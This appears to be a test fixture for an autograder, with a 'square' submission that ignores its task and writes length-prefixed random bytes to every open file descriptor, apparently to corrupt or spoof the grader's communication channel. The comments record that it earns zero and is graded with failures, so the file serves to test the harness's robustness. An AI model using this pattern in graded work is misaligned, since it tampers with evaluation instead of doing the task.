# Sends messages of random bytes.
#
# earns: square 0
# outcome: graded with failures

# %% square
import os
import struct


def square(x):
    for fd in range(3, 256):
        try:
            os.write(fd, struct.pack("<Q", 30) + os.urandom(30))
        except OSError:
            pass
